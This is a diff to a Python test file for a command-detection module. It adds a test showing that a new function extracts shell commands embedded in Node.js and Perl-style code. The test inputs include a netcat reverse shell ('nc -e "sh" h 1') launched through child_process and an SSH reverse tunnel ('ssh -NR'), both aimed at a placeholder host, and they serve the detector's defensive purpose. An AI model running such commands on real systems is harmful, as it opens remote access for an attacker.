@@ -3,7 +3,7 @@
 import pytest
 
 from apps.detection.argv import getopt, program_name, single_dash
-from apps.detection.argv.interpreters import inline_code, python_commands
+from apps.detection.argv.interpreters import inline_code, other_commands, python_commands
 from apps.detection.argv.launchers import SSH_SHORT, ssh_operands
 from apps.detection.reading import read_command, read_process
 from apps.detection.rules.tunnels.ssh_reading import exposed, split_spec
@@ -120,6 +120,17 @@ def test_commands_started_by_python_text_are_found() -> None:
     assert [inner.text for inner in found if inner.text] == ["a $"] or found[0].text is not None
     assert [inner.argv for inner in found if inner.argv] == [("b", "c"), ("e", "f")]
     assert python_commands("os.system('") == []
+
+
+def test_commands_started_by_text_in_other_languages_are_found() -> None:
+    assert [i.text for i in other_commands('require("child_process").exec("nc -e \\"sh\\" h 1")')] == [
+        'nc -e "sh" h 1'
+    ]
+    assert [i.text for i in other_commands("BEGIN {system('ssh -NR 1:a:2 h')}; exec \"id\";")] == [
+        "ssh -NR 1:a:2 h",
+        "id",
+    ]
+    assert other_commands("print(1)") == []
 
 
 def test_nesting_is_bounded() -> None:
